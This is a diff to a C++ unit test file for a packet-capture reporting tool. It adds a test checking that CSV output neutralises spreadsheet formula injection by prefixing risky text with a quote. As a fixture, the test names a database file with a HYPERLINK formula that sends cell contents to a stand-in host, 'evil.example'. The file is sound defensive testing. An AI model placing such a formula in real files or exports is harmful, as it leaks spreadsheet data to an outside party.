@@ -1,7 +1,10 @@
 // Every output comes from one declaration of each section: for every section of the four
 // samples (the office LAN's made with -x), the CSV that --csv writes holds the rows and fields of
 // the JSON document, under the same keys, and --csv list names exactly the document's sections.
+// A field is quoted as RFC 4180 has it, and a text never starts what a spreadsheet reads as a
+// formula.
 #include <gtest/gtest.h>
+#include <sqlite3.h>
 
 #include <sstream>
 
@@ -121,9 +124,37 @@ TEST(ReportOutputsAgree, CsvQuotesFieldsAsRfc4180Has) {
     const std::string db = dir.path("a \"quoted\", named.db");
     makeDatabase(std::string(TIDEWRACK_SAMPLES_DIR) + "/port-scan.pcap", db);
     const Outcome csv = runReport({"--csv", "databases", db});
-    EXPECT_EQ(
-        csv.out,
-        "path,mode,frames,bytes,first,last,duration,first_utc,last_utc,record,time_goes_back\n\"" +
-            dir.path("a \"\"quoted\"\", named.db") +
-            "\",1,44,2376,13:00:00.000800,13:00:00.018600,0.017800,,,classic,\n");
+    EXPECT_EQ(csv.out,
+              "path,mode,frames,bytes,first,last,duration,first_utc,last_utc,record,time_goes_back,"
+              "read_error\n\"" +
+                  dir.path("a \"\"quoted\"\", named.db") +
+                  "\",1,44,2376,13:00:00.000800,13:00:00.018600,0.017800,,,classic,,\n");
+}
+
+// A text that a spreadsheet would take for a formula (its first character =, +, - or @) is
+// written after a single quote, as OWASP advises for CSV exports: a database's name, a protocol
+// name stored in it, the summary's filter. Numbers stay numbers, negative ones too.
+TEST(ReportOutputsAgree, CsvTextsNeverStartAFormula) {
+    ScratchDir dir;
+    const std::string name = "=HYPERLINK(\"evil.example?\"&A1,\"x\").db";
+    makeDatabase(std::string(TIDEWRACK_SAMPLES_DIR) + "/web-session.pcap", dir.path(name));
+    makeDatabase(std::string(TIDEWRACK_SAMPLES_DIR) + "/port-scan.pcap", dir.path("scan.db"));
+    sqlite3* db = nullptr;
+    sqlite3_open(dir.path(name).c_str(), &db);
+    sqlite3_exec(db, "UPDATE frames SET ipproto = '@SUM(1+1)' WHERE ipproto = 'ICMP'", nullptr,
+                 nullptr, nullptr);
+    sqlite3_close(db);
+    const auto csv = [&](const std::vector<std::string>& args) {
+        const Outcome run = runReport(args, {}, dir.path(""));
+        EXPECT_EQ(run.status, 0) << run.err;
+        return parseCsv(run.out);
+    };
+    EXPECT_EQ(csv({"--csv", "databases", name})[1][0], "'" + name);
+    EXPECT_EQ(csv({"--csv", "protocols", name}).back()[0], "'@SUM(1+1)");
+    const Rows summary = csv({"--csv", "summary", "--host", "192.168.1.23", name});
+    EXPECT_EQ(summary[1][6], "'@SUM(1+1) TCP UDP");
+    EXPECT_EQ(summary[1][15], "'--host 192.168.1.23");
+    EXPECT_EQ(csv({"--csv", "endpoint_changes", "--baseline", name, "scan.db"})[1],
+              (std::vector<std::string>{"192.168.1.23", "20928", "2376", "-18552",
+                                        "-0.8864678899082569"}));
 }
